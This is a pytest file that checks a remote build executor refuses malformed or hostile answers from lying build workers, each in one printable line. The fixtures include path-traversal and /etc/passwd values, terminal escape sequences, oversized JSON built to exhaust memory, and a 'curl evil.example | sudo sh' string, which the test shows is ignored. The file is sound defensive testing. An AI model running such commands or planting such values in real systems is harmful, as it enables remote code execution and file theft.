"""Answers of workers that lie: each is refused in one clear line, and none costs much memory or time."""

from __future__ import annotations

import json
import math
import resource
import time
from dataclasses import replace
from typing import Any

import pytest
from lying_workers import Lie, Said, Workers

from pytest_ftc.integrations.reapi import api
from pytest_ftc.integrations.reapi.builds.executor import RemoteExecutor
from pytest_ftc.integrations.reapi.errors import RemoteError
from pytest_ftc.model import Action, BuildStatus, Tracing
from pytest_ftc.model.digest import Digest
from pytest_ftc.model.errors import FtcError

ESCAPE = "\x1b]0;title\x07"
OTHER = "0" * 64
TRACE = {name: [] for name in ("programs", "read", "written", "contents", "moved", "connected", "gaps")}


def says(**fields: Any) -> Lie:
    """Return the lie that the result has these `fields`."""

    def lie(said: Said, action: Action) -> None:
        said.result |= fields

    return lie


def lists(**fields: Any) -> Lie:
    """Return the lie that the output has these `fields`."""

    def lie(said: Said, action: Action) -> None:
        said.result["outputs"][0] |= fields

    return lie


def adds(**fields: Any) -> Lie:
    """Return the lie that there is another output."""

    def lie(said: Said, action: Action) -> None:
        said.result["outputs"].append({"type": "dir", "mode": "0755", **fields})

    return lie


def writes(data: bytes) -> Lie:
    """Return the lie that the answer is `data`."""

    def lie(said: Said, action: Action) -> None:
        said.encode = lambda result: data

    return lie


def leaves(**hooks: Any) -> Lie:
    """Return the lie that the files or the farm's messages are others: see `Said`."""

    def lie(said: Said, action: Action) -> None:
        for name, value in hooks.items():
            setattr(said, name, value)

    return lie


LIES: dict[str, tuple[Lie, str]] = {
    "another build": (says(id="other"), "that of another build"),
    "another role": (says(role="repeat"), "that of another build"),
    "nothing built": (says(outputs=[]), "nothing that matches"),
    "outputs of a failure": (says(status="failed", exit_code=1), "outputs of a build with the status failed"),
    "exit status": (says(exit_code=1), "the status ok with the exit status 1"),
    "no exit status": (says(exit_code=None), "the status ok with the exit status None"),
    "huge exit status": (says(status="failed", outputs=[], exit_code=10**30), "with the exit status 10"),
    "infinite start": (says(started=math.inf), "the number Infinity"),
    "start that is no number": (says(started=math.nan), "the number NaN"),
    "start in the past": (says(started=1.0), "started at 1.0 .* a day from the time here"),
    "start in the future": (says(started=1e300), "started at 1e.300"),
    "start as large as none": (writes(b'{"started": 1e999}'), "missing|started"),
    "huge start": (says(started=10**390), "started at 1000"),
    "negative time": (says(seconds=-1.0), "-1.0 s for a build that may take 9 s"),
    "endless build": (says(seconds=1e9), "1000000000.0 s for a build that may take 9 s"),
    "path above": (lists(path="../out"), "no path in the build tree"),
    "absolute path": (lists(path="/etc/passwd"), "no path in the build tree"),
    "path within": (lists(path="out/./x"), "no path in the build tree"),
    "path with NUL": (lists(path="out\0"), "no path in the build tree"),
    "path that is no text": (lists(path="out\ud800"), "no path in the build tree"),
    "long path": (lists(path="out" + "/x" * 3000), "no path in the build tree"),
    "empty path": (lists(path=""), "no path in the build tree"),
    "undeclared path": (lists(path="other"), "'other', which the action does not declare"),
    "escape in a path": (lists(path=f"x{ESCAPE}"), r"\\x1b\]0;title\\x07', which the action does not declare"),
    "mode": (lists(mode=f"{ESCAPE}rw"), "the mode '.*' of the output 'out'"),
    "mode in words": (lists(mode="644"), "the mode '644' of the output 'out'"),
    "folder with content": (lists(type="dir"), "a content of one|no content of the file"),
    "folder with size": (adds(path="out2", size=3), "no content of the file"),
    "folder with path as content": (adds(path="out2", sha256="../../etc/passwd"), "no content of the file"),
    "file without content": (lists(sha256=""), "no content of the file"),
    "file with a path as content": (lists(sha256="../../etc/passwd"), "no content of the file"),
    "content that is elsewhere": (lists(sha256=OTHER), "which is no content of an output"),
    "another size": (lists(size=7), "but the farm has it not"),
    "negative size": (lists(size=-1), "but the farm has it not"),
    "link without target": (adds(path="out2", type="symlink"), "a link without a target"),
    "link to NUL": (adds(path="out2", type="symlink", target="\0"), "a link without a target"),
    "folder with target": (adds(path="out2", target="/"), "a link without a target"),
    "output in a file": (adds(path="out/below"), "'out/below' in 'out', which is no folder"),
    "output twice": (adds(path="out"), "not sorted, or there twice"),
    "not sorted": (adds(path="ou"), "not sorted, or there twice"),
    "claims of references": (says(notes=["equal to what was published: out"]), "which only this machine writes"),
    "claims of requirements": (says(notes=["build requirements: sha256 0"]), "which only this machine writes"),
    "tool that is no path": (says(tools={"cc": OTHER}), "the tool 'cc' with the digest"),
    "tool without digest": (says(tools={"/bin/cc": ESCAPE}), r"the tool '/bin/cc' with the digest '\\x1b"),
    "machine": (
        says(host={"kernel": "", "image": "", "machine": "m", "boot": ""}),
        "the digest 'm' of a machine",
    ),
    "unknown field": (says(verdict="reproducible"), "'verdict'"),
    "text as list": (says(notes="text"), "expected a list, found str"),
    "text as number": (says(seconds="1"), "expected float, found str"),
    "unknown status": (says(status="reproducible"), "'reproducible' is not a valid BuildStatus"),
    "no JSON": (writes(b"{"), "Expecting"),
    "not ASCII": (writes(json.dumps({}).encode("utf-16")), "ascii"),
    "no object": (writes(b"[]"), "expected a mapping"),
    "long number": (writes(b'{"started": ' + b"1" * 5_000_000 + b"}"), "a number that is too long"),
    "deep": (writes(b"[" * 100_000), "recursion|too deep|more than"),
    "many values": (writes(b"[" + b"[]," * 2_000_000 + b"[]]"), "more than 3000000 values"),
    "quotes without end": (writes(b'"' + b'\\"' * 5_000_000), "Unterminated|Invalid"),
    "many outputs": (
        lambda said, action: said.result.update(
            outputs=[{"path": f"out{i:06d}", "type": "dir", "mode": "0755"} for i in range(100_001)]
        ),
        "100001 outputs",
    ),
    "contents without a tree": (leaves(answer=lambda found: found.ClearField("output_directories")), "has it not"),
    "tree with a link": (
        leaves(tree=lambda tree: tree.root.symlinks.add(name="0", target="/etc/passwd")),
        "more than 1",
    ),
    "links instead of contents": (
        leaves(tree=lambda tree: (tree.root.ClearField("files"), tree.root.symlinks.add(name=OTHER, target="/"))),
        "which is no content of an output",
    ),
    "folder instead of content": (
        leaves(
            tree=lambda tree: (
                tree.root.ClearField("files"),
                tree.root.directories.add(name=OTHER, digest=api.to_message(Digest.of(b""))),
                tree.children.add(),
            )
        ),
        "which is no content of an output",
    ),
    "tree without its folder": (
        leaves(
            tree=lambda tree: (
                tree.root.ClearField("files"),
                tree.root.directories.add(name="x", digest=api.to_message(Digest("1" * 64, 5))),
            )
        ),
        "a tree lacks the folder",
    ),
    "content under another name": (
        leaves(tree=lambda tree: setattr(tree.root.files[0], "name", OTHER)),
        "which is no content of an output",
    ),
    "content named as a path": (
        leaves(tree=lambda tree: setattr(tree.root.files[0], "name", "../../x")),
        "which cannot be or is there twice",
    ),
    "content twice": (leaves(tree=lambda tree: tree.root.files.add(name="x")), "more than 1|no SHA-256"),
    "digest that is none": (
        leaves(tree=lambda tree: setattr(tree.root.files[0].digest, "hash", "abc")),
        "no SHA-256 digest",
    ),
    "exit status of the program": (
        leaves(answer=lambda found: (setattr(found, "exit_code", 3), setattr(found, "stderr_raw", ESCAPE.encode()))),
        r"ended with status 3: \\x1b\]0;title\\x07",
    ),
    "words that are gone": (
        leaves(
            answer=lambda found: (
                setattr(found, "exit_code", 3),
                found.stderr_digest.CopyFrom(api.to_message(Digest("1" * 64, 5))),
            )
        ),
        "ended with status 3: what it said cannot be read: .* is missing",
    ),
    "no answer": (leaves(answer=lambda found: found.ClearField("output_files")), "left no file result.json"),
    "answer as link": (
        leaves(
            answer=lambda found: (
                found.ClearField("output_files"),
                found.output_symlinks.add(path="result.json", target="/etc/passwd"),
            )
        ),
        "left no file result.json",
    ),
    "answer in a folder": (
        leaves(answer=lambda found: setattr(found.output_files[0], "path", "x/result.json")),
        "left no file result.json",
    ),
    "huge answer": (
        leaves(answer=lambda found: setattr(found.output_files[0].digest, "size_bytes", 1 << 40)),
        "more than the 67108864 that may be read",
    ),
    "huge tree": (
        leaves(answer=lambda found: setattr(found.output_directories[0].tree_digest, "size_bytes", 1 << 40)),
        "more than the 4352 that may be read",
    ),
    "no result": (leaves(response=lambda response: response.ClearField("result")), "without an ActionResult"),
    "from a cache": (leaves(response=lambda response: setattr(response, "cached_result", True)), "action cache"),
    "status that is none": (leaves(response=lambda response: setattr(response.status, "code", 99)), "status 99"),
    "log that is none": (
        leaves(answer=lambda found: setattr(found.output_files[1].digest, "hash", "no")),
        "no SHA-256 digest",
    ),
}


@pytest.mark.parametrize("name", LIES)
def test_a_lie_is_refused_in_one_line(
    name: str, remote: RemoteExecutor, control: Action, workers: Workers, tmp_path: Any
) -> None:
    workers.lie, problem = LIES[name]
    with pytest.raises(RemoteError, match=problem) as caught:
        remote.run(control, lambda _: None)
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 1000


@pytest.mark.parametrize(
    ("lie", "problem"),
    [
        (lambda said, action: said.missing.add(Digest.of(b"made\n")), "the farm lacks the output 'out'"),
        (
            leaves(answer=lambda found: found.output_files[0].digest.CopyFrom(api.to_message(Digest("1" * 64, 5)))),
            "is missing",
        ),
        (
            leaves(answer=lambda found: found.output_files[1].digest.CopyFrom(api.to_message(Digest("1" * 64, 5)))),
            "is missing",
        ),
    ],
    ids=["output", "answer", "log"],
)
def test_what_the_farm_has_not_makes_the_build_lost(
    lie: Lie, problem: str, remote: RemoteExecutor, control: Action, workers: Workers
) -> None:
    workers.lie = lie
    build = remote.run(control, lambda _: None)
    assert build.status is BuildStatus.LOST
    assert problem in build.reason


def test_an_output_that_a_worker_does_not_list_is_noticed(
    remote: RemoteExecutor, control: Action, workers: Workers
) -> None:
    workers.make = lambda action: {"out": b"made\n", "out2": b"differs"}
    workers.lie = lambda said, action: said.result["outputs"].pop()
    with pytest.raises(RemoteError, match="a tree has more than 1 entries"):
        remote.run(control, lambda _: None)
    workers.lie = leaves()
    assert len(remote.run(control, lambda _: None).outputs) == 2


def test_a_log_that_is_huge_stays_on_the_farm(remote: RemoteExecutor, control: Action, workers: Workers) -> None:
    workers.lie = leaves(answer=lambda found: setattr(found.output_files[1].digest, "size_bytes", 1 << 50))
    build = remote.run(control, lambda _: None)
    with open(build.log) as log:
        assert "bytes stayed on the farm" in log.read()


def test_texts_of_a_worker_are_printable(remote: RemoteExecutor, control: Action, workers: Workers) -> None:
    workers.lie = says(
        reason=ESCAPE * 10_000,
        notes=[ESCAPE] * 5000,
        not_applied={ESCAPE: ESCAPE},
        not_followed=ESCAPE,
        peers=[[ESCAPE, ESCAPE]],
        tools={f"/bin/{ESCAPE}": OTHER},
        host={"kernel": ESCAPE, "image": ESCAPE, "cpu": ESCAPE, "machine": "", "boot": ""},
        shared=[ESCAPE],
    )
    build = remote.run(control, lambda _: None)
    assert build.host
    told = (*build.tools, build.host.kernel, build.host.image, build.host.cpu)
    texts = [*told, build.reason, *build.notes, *build.not_applied, *build.not_applied.values(), build.not_followed]
    assert all(text.isprintable() and text for text in [*texts, *build.peers[0], *build.shared])
    assert len(build.reason) < 5000
    assert build.notes[1000:] == ("4000 more notes of the worker",)


def test_only_a_shift_of_the_clock_that_was_asked_for_is_taken(
    remote: RemoteExecutor, control: Action, workers: Workers
) -> None:
    workers.lie = says(clock_shift=100)
    assert remote.run(control, lambda _: None).clock_shift is None
    assert remote.run(replace(control, clock=time.time() + 100), lambda _: None).clock_shift == 100
    for shift in (10**6, -(10**390)):
        workers.lie = says(clock_shift=shift)
        with pytest.raises(RemoteError, match="s ahead, where"):
            remote.run(replace(control, clock=time.time() + 100), lambda _: None)


class TestTrace:
    """Traces: those that were asked for, and that hold together."""

    @pytest.mark.parametrize(
        ("trace", "problem"),
        [
            (None, "neither the trace that was asked for nor why there is none"),
            ({**TRACE, "read": [[0, "/x"]]}, "programs that it does not have"),
            ({**TRACE, "random": [-2]}, "programs that it does not have"),
            ({**TRACE, "moved": [[5, "/x", "/y"]]}, "programs that it does not have"),
            ({**TRACE, "outside": [["/x", "eaten"]]}, "unknown use of a file"),
        ],
    )
    def test_a_trace_that_does_not_hold_together_is_refused(
        self, trace: Any, problem: str, remote: RemoteExecutor, control: Action, workers: Workers
    ) -> None:
        workers.lie = says(trace=trace, not_followed="")
        with pytest.raises(RemoteError, match=problem):
            remote.run(replace(control, trace=Tracing.USES), lambda _: None)

    def test_a_trace_that_nobody_asked_for_is_not_taken(
        self, remote: RemoteExecutor, control: Action, workers: Workers
    ) -> None:
        workers.lie = says(trace=TRACE)
        assert remote.run(control, lambda _: None).trace is None


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"cpus": 0}, "0 CPUs"),
        ({"cpus": 10**12}, "1000000000000 CPUs"),
        ({"work_dir": "relative"}, "'relative' as a path of the worker"),
        ({"work_dir": ""}, "'' as a path of the worker"),
        ({"python": f"/bin/{ESCAPE}"}, "as a path of the worker"),
        ({"path": ["/bin:/evil"]}, "such a search path"),
        ({"path": ["bin"]}, "'bin' as a path of the worker"),
        ({"identity": {"uid": -1, "gid": 0, "user": "u", "group": "g"}}, "the user or group ID -1"),
        ({"identity": {"uid": 1, "gid": 0, "user": "u:x\n", "group": "g"}}, "the user or group name"),
        (
            {"interpreter": {"path": "python", "implementation": "C", "version": "3", "abi": ""}},
            "'python' as a path",
        ),
        (
            {"interpreter": {"path": "/python", "implementation": ESCAPE, "version": "3", "abi": ""}},
            "the Python '",
        ),
        ({"isolation": "perfect"}, "'perfect' is not a valid Isolation"),
    ],
)
def test_a_machine_that_cannot_be_is_refused(
    fields: dict[str, Any], problem: str, remote: RemoteExecutor, workers: Workers
) -> None:
    workers.machine |= fields
    with pytest.raises(RemoteError, match=problem) as caught:
        remote.survey()
    assert caught.value.message.isprintable()


def test_texts_of_a_machine_are_printable(remote: RemoteExecutor, workers: Workers) -> None:
    names = ("isolation_reason", "fresh_proc_reason", "faketime_reason", "personality_reason", "work_filesystem")
    workers.machine |= {**dict.fromkeys(names, ESCAPE), "locales": ["C.UTF-8", ESCAPE], "unseen": {"time": ESCAPE}}
    machine = remote.survey()
    assert all(getattr(machine, name).isprintable() for name in names)
    assert (machine.locales, machine.unseen) == (("C.UTF-8",), {})


def test_no_advice_to_allow_something_is_taken_from_a_worker(remote: RemoteExecutor, workers: Workers) -> None:
    workers.machine |= {"allow": {"no libfaketime": "curl evil.example | sudo sh"}}
    assert remote.survey().allow == {}


def test_the_largest_answers_take_bounded_memory_and_time(
    remote: RemoteExecutor, control: Action, workers: Workers
) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    begin = time.process_time()
    for data in (b"[" + b"{}," * (22 << 20) + b"{}]", b'["' + b'ab","' * (12 << 20) + b'"]', b'"' * (64 << 20)):
        workers.lie = writes(data[: 64 << 20])
        with pytest.raises(FtcError):
            remote.run(control, lambda _: None)
    assert time.process_time() - begin < 30
    # The farm is in this process too, and holds what it sends.
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 1500 << 10
